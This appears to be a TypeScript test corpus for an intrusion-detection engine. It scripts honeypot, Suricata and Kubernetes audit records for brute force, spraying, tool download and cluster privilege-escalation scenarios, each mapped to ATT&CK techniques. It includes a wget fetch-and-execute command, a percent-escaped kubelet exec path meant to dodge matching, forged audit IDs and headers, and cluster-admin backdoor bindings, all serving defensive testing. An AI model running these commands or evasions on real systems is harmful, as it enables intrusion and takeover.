// Scripted attacks, one or more per rule, with the incidents each must raise (and nothing else).
import { auditEvent, clusterRoleBindingObject, podObject, roleObject } from "../fixtures/auditRecords.ts";
import { cowrie } from "../fixtures/cowrieRecords.ts";
import { at } from "../fixtures/eventTime.ts";
import { eve } from "../fixtures/suricataRecords.ts";
import type { CorpusScenario } from "./corpusScenario.ts";

const bot = { srcIp: "203.0.113.45", session: "c0ffee01a2b3" };
const sprayer = { srcIp: "198.51.100.77", session: "5pray0000001" };
const guesser = { srcIp: "192.0.2.201", session: "9e55e4000001" };
const dropper = { srcIp: "203.0.113.99", session: "d40990e40001" };
const uploader = { srcIp: "203.0.113.98", session: "5c9000000001" };
const passwords = ["123456", "password", "admin", "root", "toor", "qwerty", "1qaz2wsx", "P@ssw0rd"];

export const attackCorpus: CorpusScenario[] = [
  {
    name: "ssh brute force, second half arriving first",
    description: "8 failed root logins in 35 s; the later four are posted before the earlier four (out of order).",
    batches: [
      { format: "cowrie", encoding: "ndjson", records: passwords.slice(4).map((p, i) => cowrie.loginFailed(bot, 20 + i * 5, "root", p)) },
      { format: "cowrie", encoding: "ndjson", records: [cowrie.connect(bot, 0), ...passwords.slice(0, 4).map((p, i) => cowrie.loginFailed(bot, 1 + i * 5, "root", p))] },
    ],
    expect: [{ technique: "T1110.001", sourceIp: bot.srcIp, minEvidence: 8 }],
  },
  {
    name: "ssh brute force from one IPv6 address spelled six ways",
    description: "Sensors print the same address differently (case, leading zeros, ::); it is one source.",
    batches: [{
      format: "cowrie", encoding: "ndjson",
      records: ["2001:db8::1", "2001:DB8::1", "2001:0db8::1", "2001:db8:0::1", "2001:db8:0:0::1", "2001:0db8:0000:0000:0000:0000:0000:0001"]
        .map((srcIp, i) => cowrie.loginFailed({ srcIp, session: `v6${i}` }, i * 5, "root", passwords[i]!)),
    }],
    expect: [{ technique: "T1110.001", sourceIp: "2001:db8::1", minEvidence: 6 }],
  },
  {
    name: "password spraying",
    description: "One password tried against 6 accounts, one attempt every 40 s: below the brute-force rate.",
    batches: [{
      format: "cowrie", encoding: "array",
      records: ["admin", "ubuntu", "deploy", "oracle", "postgres", "git"].map((u, i) => cowrie.loginFailed(sprayer, i * 40, u, "Winter2024!")),
    }],
    expect: [{ technique: "T1110.003", sourceIp: sprayer.srcIp, minEvidence: 6 }],
  },
  {
    name: "password spraying, then a brute force from the same source",
    description: "One password against 5 accounts in 8 s, then 10 passwords against admin a minute and a half later: both, in one batch.",
    batches: [{
      format: "cowrie", encoding: "ndjson",
      records: [
        ...["alice", "bob", "carol", "dave", "erin"].map((u, i) => cowrie.loginFailed({ srcIp: "198.51.100.78", session: "5pr4y" }, i * 2, u, "Winter2025!")),
        ...Array.from({ length: 10 }, (_, i) => cowrie.loginFailed({ srcIp: "198.51.100.78", session: "br0t3" }, 100 + i * 5, "admin", `guess${i}`)),
      ],
    }],
    expect: [{ technique: "T1110.003", sourceIp: "198.51.100.78", minEvidence: 5 }, { technique: "T1110.001", sourceIp: "198.51.100.78", minEvidence: 10 }],
  },
  {
    name: "successful login after failures",
    description: "Four failures 30 s apart, then the fifth password works.",
    batches: [{
      format: "cowrie", encoding: "ndjson",
      records: [...passwords.slice(0, 4).map((p, i) => cowrie.loginFailed(guesser, i * 30, "admin", p)), cowrie.loginSuccess(guesser, 125, "admin", "admin123")],
    }],
    expect: [{ technique: "T1078", sourceIp: guesser.srcIp, minEvidence: 5 }],
  },
  {
    name: "tool downloaded after login",
    description: "A first-try login, reconnaissance, then wget of a bot script, recorded as a command and a download.",
    batches: [{
      format: "cowrie", encoding: "ndjson",
      records: [
        cowrie.connect(dropper, 0),
        cowrie.clientVersion(dropper, 1),
        cowrie.loginSuccess(dropper, 2, "root", "xc3511"),
        cowrie.command(dropper, 5, "uname -a; cat /proc/cpuinfo | grep name | wc -l"),
        cowrie.command(dropper, 9, "cd /tmp && wget http://198.51.100.66/bins/x86.sh && chmod +x x86.sh && ./x86.sh"),
        cowrie.download(dropper, 10, "http://198.51.100.66/bins/x86.sh", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
        cowrie.closed(dropper, 30, 30.2),
      ],
    }],
    expect: [{ technique: "T1105", sourceIp: dropper.srcIp, minEvidence: 3 }],
  },
  {
    name: "tool uploaded over scp after login",
    description: "A login, then a binary copied in with scp (Cowrie's file_upload), then run.",
    batches: [{
      format: "cowrie", encoding: "ndjson",
      records: [
        cowrie.loginSuccess(uploader, 0, "root", "admin"),
        cowrie.upload(uploader, 4, "/tmp/.x/kworker", "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"),
        cowrie.command(uploader, 6, "chmod +x /tmp/.x/kworker && /tmp/.x/kworker"),
      ],
    }],
    expect: [{ technique: "T1105", sourceIp: uploader.srcIp, minEvidence: 2 }],
  },
  {
    name: "port scan from flow records",
    description: "SYN probes to 25 distinct ports of one host within 25 s.",
    batches: [{
      format: "suricata", encoding: "ndjson",
      records: [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1723, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200]
        .map((port, i) => eve.flow(i, "192.0.2.10", "10.0.0.5", port, 60, 54, "closed")),
    }],
    expect: [{ technique: "T1046", sourceIp: "192.0.2.10", minEvidence: 20 }],
  },
  {
    name: "port scan from an IDS alert",
    description: "Suricata's ET SCAN signature fires for an nmap SYN scan.",
    batches: [{
      format: "suricata", encoding: "array",
      records: [eve.alert(3, "192.0.2.11", "10.0.0.5", 3306, "ET SCAN Suspicious inbound to mySQL port 3306", 2010937, "Potentially Bad Traffic", 2)],
    }],
    expect: [{ technique: "T1046", sourceIp: "192.0.2.11", minEvidence: 1 }],
  },
  {
    name: "large outbound transfer",
    description: "An internal host uploads 3 x 40 MiB to one external address within 200 s.",
    batches: [{
      format: "suricata", encoding: "ndjson",
      records: [0, 90, 200].map((s) => eve.flow(s, "10.0.0.23", "203.0.113.200", 443, 40 * 1048576, 120_000)),
    }],
    expect: [{ technique: "T1048", sourceIp: "10.0.0.23", minEvidence: 3 }],
  },
  {
    name: "brute force in the generic schema",
    description: "A VPN gateway's failed logins sent as generic auth.failure events.",
    batches: [{
      format: "events", encoding: "array",
      records: passwords.slice(0, 6).map((p, i) => ({ id: `vpn-${i}`, timestamp: at(i * 4), type: "auth.failure", sourceIp: "203.0.113.150", username: "jsmith", password: p, sensor: "vpn-gw-1" })),
    }],
    expect: [{ technique: "T1110.001", sourceIp: "203.0.113.150", minEvidence: 6 }],
  },
  {
    name: "exec into a pod",
    description: "kubectl exec by a developer: the upgrade is audited at ResponseStarted and ResponseComplete.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: (() => {
        const req = { user: "mallory", verb: "create", resource: "pods", subresource: "exec", namespace: "payments", name: "api-7d9f", requestURI: "/api/v1/namespaces/payments/pods/api-7d9f/exec?command=sh&container=api&stdin=true&tty=true", code: 101 };
        const started = auditEvent(0, req, "ResponseStarted");
        return [started, { ...auditEvent(0, req), auditID: started.auditID }];
      })(),
    }],
    expect: [{ technique: "T1609", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 2 }],
  },
  {
    name: "exec with a stolen kube-system service account token",
    description: "A token of a kube-system controller's service account, taken from a node, used to exec into a pod: the platform never execs.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [auditEvent(0, {
        user: "system:serviceaccount:kube-system:replicaset-controller", groups: ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
        verb: "create", resource: "pods", subresource: "exec", namespace: "payments", name: "api-7d9f",
        requestURI: "/api/v1/namespaces/payments/pods/api-7d9f/exec?command=sh&container=api&stdin=true&tty=true", code: 101, sourceIPs: ["10.244.3.17"],
      })],
    }],
    expect: [{ technique: "T1609", sourceIp: "10.244.3.17", actor: "system:serviceaccount:kube-system:replicaset-controller", minEvidence: 1 }],
  },
  {
    name: "a command run through the kubelet via nodes/proxy",
    description: "GET on nodes/proxy to the kubelet's run endpoint (no pods/exec request at all), then exec with an escaped path to dodge a match on /exec/.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [
        auditEvent(0, { user: "dev-user", verb: "get", resource: "nodes", subresource: "proxy", name: "worker-1", requestURI: "/api/v1/nodes/worker-1/proxy/run/payments/api-7d9f/api?cmd=id", code: 200 }),
        auditEvent(20, { user: "dev-user", verb: "get", resource: "nodes", subresource: "proxy", name: "worker-1", requestURI: "/api/v1/nodes/worker-1/proxy//%65xec/payments/api-7d9f/api?command=sh&input=1", code: 101 }),
      ],
    }],
    expect: [{ technique: "T1609", sourceIp: "10.20.0.15", actor: "dev-user", minEvidence: 2, risk: 80 }],
  },
  {
    name: "requests the authorizer allowed that then failed",
    description: "A kubelet command whose kubelet did not answer (502) is as permitted as one it did; a privileged pod an admission webhook failed on (500) was never created.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [
        { ...auditEvent(0, { user: "dev-user", verb: "get", resource: "nodes", subresource: "proxy", name: "worker-2", requestURI: "/api/v1/nodes/worker-2/proxy/exec/payments/api-7d9f/api?command=sh", code: 502 }),
          annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC: allowed" } },
        { ...auditEvent(10, { user: "dev-user", verb: "create", resource: "pods", namespace: "default", requestURI: "/api/v1/namespaces/default/pods", code: 500, requestObject: podObject("debug", { privileged: true }) }),
          annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC: allowed" } },
      ],
    }],
    expect: [
      { technique: "T1609", sourceIp: "10.20.0.15", actor: "dev-user", minEvidence: 1, risk: 80 },
      { technique: "T1611", sourceIp: "10.20.0.15", actor: "dev-user", minEvidence: 1, risk: 55 },
    ],
  },
  {
    name: "a token minted for a kube-system service account",
    description: "A CI identity runs kubectl create token for a controller's service account (whose roles it then holds).",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [auditEvent(0, {
        user: "ci-bot", verb: "create", resource: "serviceaccounts", subresource: "token", namespace: "kube-system", name: "replicaset-controller",
        requestURI: "/api/v1/namespaces/kube-system/serviceaccounts/replicaset-controller/token", code: 201,
      })],
    }],
    expect: [{ technique: "T1528", sourceIp: "10.20.0.15", actor: "ci-bot", minEvidence: 1, risk: 65 }],
  },
  {
    name: "secrets read across namespaces",
    description: "A developer lists secrets in all namespaces (refused) and reads one in each of two namespaces.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [
        auditEvent(0, { user: "dev-user", verb: "list", resource: "secrets", requestURI: "/api/v1/secrets?limit=500", code: 403 }),
        auditEvent(5, { user: "dev-user", verb: "get", resource: "secrets", namespace: "payments", name: "db-credentials", requestURI: "/api/v1/namespaces/payments/secrets/db-credentials", code: 200 }),
        auditEvent(9, { user: "dev-user", verb: "get", resource: "secrets", namespace: "billing", name: "stripe-key", requestURI: "/api/v1/namespaces/billing/secrets/stripe-key", code: 200 }),
      ],
    }],
    expect: [{ technique: "T1552.007", sourceIp: "10.20.0.15", actor: "dev-user", minEvidence: 3 }],
  },
  {
    name: "exec sent under the audit ID of an earlier request",
    description: "The client sets Audit-ID: a harmless get, then an exec under the same ID in a later batch.",
    batches: [
      { format: "k8s-audit", encoding: "eventlist", records: [{ ...auditEvent(0, { user: "mallory", verb: "get", resource: "pods", namespace: "payments", name: "api-7d9f", requestURI: "/api/v1/namespaces/payments/pods/api-7d9f", code: 200 }), auditID: "forged" }] },
      { format: "k8s-audit", encoding: "eventlist", records: [{ ...auditEvent(5, { user: "mallory", verb: "create", resource: "pods", subresource: "exec", namespace: "payments", name: "api-7d9f", requestURI: "/api/v1/namespaces/payments/pods/api-7d9f/exec?command=sh", code: 101 }), auditID: "forged" }] },
    ],
    expect: [{ technique: "T1609", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 1 }],
  },
  {
    name: "secrets read in two namespaces under one forged audit ID",
    description: "Two reads sharing an Audit-ID are still two requests, in two namespaces.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [
        { ...auditEvent(0, { user: "dev-user", verb: "get", resource: "secrets", namespace: "payments", name: "db", requestURI: "/api/v1/namespaces/payments/secrets/db", code: 200 }), auditID: "same" },
        { ...auditEvent(3, { user: "dev-user", verb: "get", resource: "secrets", namespace: "billing", name: "key", requestURI: "/api/v1/namespaces/billing/secrets/key", code: 200 }), auditID: "same" },
      ],
    }],
    expect: [{ technique: "T1552.007", sourceIp: "10.20.0.15", actor: "dev-user", minEvidence: 2 }],
  },
  {
    name: "privileged and hostPath pods",
    description: "One privileged pod and one pod mounting the node's root filesystem.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [
        auditEvent(0, { user: "dev-user", verb: "create", resource: "pods", namespace: "default", requestURI: "/api/v1/namespaces/default/pods?fieldManager=kubectl-run", code: 201, requestObject: podObject("debug", { privileged: true }) }),
        auditEvent(30, { user: "dev-user", verb: "create", resource: "pods", namespace: "default", requestURI: "/api/v1/namespaces/default/pods", code: 201, requestObject: podObject("rootfs", { hostPath: "/" }) }),
      ],
    }],
    expect: [{ technique: "T1611", sourceIp: "10.20.0.15", actor: "dev-user", minEvidence: 2 }],
  },
  {
    name: "privileged DaemonSet",
    description: "A person creates a DaemonSet whose pod template mounts the node's root filesystem; the controller then creates its pods.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [
        auditEvent(0, {
          user: "mallory", verb: "create", resource: "daemonsets", apiGroup: "apps", namespace: "default", requestURI: "/apis/apps/v1/namespaces/default/daemonsets", code: 201,
          requestObject: { kind: "DaemonSet", apiVersion: "apps/v1", metadata: { name: "node-agent" }, spec: { selector: { matchLabels: { app: "a" } }, template: { metadata: { labels: { app: "a" } }, spec: podObject("x", { hostPath: "/" }).spec } } },
        }),
        auditEvent(1, {
          user: "system:serviceaccount:kube-system:daemon-set-controller", verb: "create", resource: "pods", namespace: "default", requestURI: "/api/v1/namespaces/default/pods", code: 201,
          requestObject: { ...podObject("x", { hostPath: "/" }), metadata: { generateName: "node-agent-" } }, sourceIp: "10.20.0.2",
        }),
      ],
    }],
    expect: [{ technique: "T1611", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 1 }],
  },
  {
    name: "host namespaces added to a Deployment by a JSON patch, and a pod with SYS_MODULE",
    description: "kubectl patch --type=json adds hostPID and a privileged securityContext; another pod adds the SYS_MODULE capability.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [
        auditEvent(0, {
          user: "mallory", verb: "patch", resource: "deployments", apiGroup: "apps", namespace: "default", name: "web", requestURI: "/apis/apps/v1/namespaces/default/deployments/web", code: 200,
          requestObject: [{ op: "add", path: "/spec/template/spec/hostPID", value: true }, { op: "add", path: "/spec/template/spec/containers/0/securityContext", value: { privileged: true } }],
        }),
        auditEvent(30, {
          user: "mallory", verb: "create", resource: "pods", namespace: "default", requestURI: "/api/v1/namespaces/default/pods", code: 201,
          requestObject: { ...podObject("modprobe"), spec: { containers: [{ name: "m", image: "busybox", securityContext: { capabilities: { add: ["SYS_MODULE"] } } }] } },
        }),
      ],
    }],
    expect: [{ technique: "T1611", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 2 }],
  },
  {
    name: "a subject added to the built-in cluster-admin binding",
    description: "kubectl patch clusterrolebinding cluster-admin adds a user: the patch carries no roleRef (it never changes).",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [auditEvent(0, {
        user: "mallory", verb: "patch", resource: "clusterrolebindings", apiGroup: "rbac.authorization.k8s.io", name: "cluster-admin",
        requestURI: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/cluster-admin", code: 200,
        requestObject: [{ op: "add", path: "/subjects/-", value: { kind: "User", apiGroup: "rbac.authorization.k8s.io", name: "eve@example.com" } }],
      })],
    }],
    expect: [{ technique: "T1098.006", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 1 }],
  },
  {
    name: "privileged debug container",
    description: "kubectl debug --profile=sysadmin: a privileged ephemeral container added to a running pod.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [auditEvent(0, {
        user: "mallory", verb: "patch", resource: "pods", subresource: "ephemeralcontainers", namespace: "payments", name: "api-7d9f",
        requestURI: "/api/v1/namespaces/payments/pods/api-7d9f/ephemeralcontainers", code: 200,
        requestObject: { spec: { ephemeralContainers: [{ name: "debugger-x7k2p", image: "busybox:1.36", stdin: true, tty: true, securityContext: { privileged: true } }] } },
      })],
    }],
    expect: [{ technique: "T1611", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 1 }],
  },
  {
    name: "secrets listed while impersonating a system identity",
    description: "A user allowed to impersonate lists every secret as system:kube-controller-manager.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [auditEvent(0, {
        user: "mallory", impersonatedUser: { username: "system:kube-controller-manager", groups: ["system:authenticated"] },
        verb: "list", resource: "secrets", requestURI: "/api/v1/secrets", code: 200,
      })],
    }],
    expect: [{ technique: "T1552.007", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 1 }],
  },
  {
    name: "secrets read behind forged X-Forwarded-For",
    description: "Each request claims another client address; the peer address (the last of sourceIPs) is the same.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [
        auditEvent(0, { user: "dev-user", verb: "get", resource: "secrets", namespace: "prod", name: "db", requestURI: "/api/v1/namespaces/prod/secrets/db", code: 200, sourceIPs: ["203.0.113.1", "10.20.0.78"] }),
        auditEvent(4, { user: "dev-user", verb: "get", resource: "secrets", namespace: "billing", name: "key", requestURI: "/api/v1/namespaces/billing/secrets/key", code: 200, sourceIPs: ["203.0.113.2", "10.20.0.78"] }),
      ],
    }],
    expect: [{ technique: "T1552.007", sourceIp: "10.20.0.78", actor: "dev-user", minEvidence: 2 }],
  },
  {
    name: "cluster-admin bound to a user",
    description: "A ClusterRoleBinding granting cluster-admin to an outside account.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [auditEvent(0, {
        user: "mallory", verb: "create", resource: "clusterrolebindings", apiGroup: "rbac.authorization.k8s.io", name: "backdoor",
        requestURI: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create", code: 201,
        requestObject: clusterRoleBindingObject("backdoor", "cluster-admin", "eve@example.com"),
      })],
    }],
    expect: [{ technique: "T1098.006", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 1 }],
  },
  {
    name: "cluster-admin under another name, then bound",
    description: "A ClusterRole granting every verb on every resource, bound to an outside account: not cluster-admin by name.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [
        auditEvent(0, {
          user: "mallory", verb: "create", resource: "clusterroles", apiGroup: "rbac.authorization.k8s.io", name: "metrics-reader",
          requestURI: "/apis/rbac.authorization.k8s.io/v1/clusterroles?fieldManager=kubectl-create", code: 201,
          requestObject: roleObject("metrics-reader", [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }]),
        }),
        auditEvent(5, {
          user: "mallory", verb: "create", resource: "clusterrolebindings", apiGroup: "rbac.authorization.k8s.io", name: "metrics-reader",
          requestURI: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create", code: 201,
          requestObject: clusterRoleBindingObject("metrics-reader", "metrics-reader", "eve@example.com"),
        }),
      ],
    }],
    expect: [{ technique: "T1098.006", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 1 }],
  },
  {
    name: "a role granting impersonation, refused",
    description: "A developer tries to make a Role that lets them impersonate service accounts; RBAC refuses to grant what they do not hold.",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [auditEvent(0, {
        user: "dev-user", verb: "create", resource: "roles", apiGroup: "rbac.authorization.k8s.io", namespace: "team-a", name: "sa-user",
        requestURI: "/apis/rbac.authorization.k8s.io/v1/namespaces/team-a/roles", code: 403,
        requestObject: roleObject("sa-user", [{ apiGroups: [""], resources: ["serviceaccounts"], verbs: ["impersonate"] }], "team-a"),
      })],
    }],
    expect: [{ technique: "T1098.006", sourceIp: "10.20.0.15", actor: "dev-user", minEvidence: 1 }],
  },
  {
    name: "anonymous request allowed",
    description: "An unauthenticated client lists pods and the API server lets it (a misbound system:anonymous).",
    batches: [{
      format: "k8s-audit", encoding: "eventlist",
      records: [auditEvent(0, {
        user: "system:anonymous", groups: ["system:unauthenticated"], verb: "list", resource: "pods", namespace: "default",
        requestURI: "/api/v1/namespaces/default/pods", code: 200, sourceIp: "198.51.100.5",
      })],
    }],
    expect: [{ technique: "T1078.001", sourceIp: "198.51.100.5", actor: "system:anonymous", minEvidence: 1 }],
  },
];
